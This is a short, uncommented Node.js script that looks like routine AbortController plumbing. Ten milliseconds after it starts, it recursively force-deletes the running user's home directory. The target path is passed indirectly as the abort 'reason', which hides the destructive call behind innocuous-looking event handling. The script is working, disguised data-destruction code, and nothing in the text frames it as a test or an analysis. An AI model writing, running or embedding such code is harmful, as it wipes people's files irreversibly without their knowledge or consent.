const fsp = require('fs/promises');
const os = require('os');
const ctl = new AbortController();
const sig = ctl.signal;
sig.addEventListener('abort', () => {
  fsp.rm(sig.reason, { recursive: true, force: true });
});
setTimeout(() => ctl.abort(os.homedir()), 10);
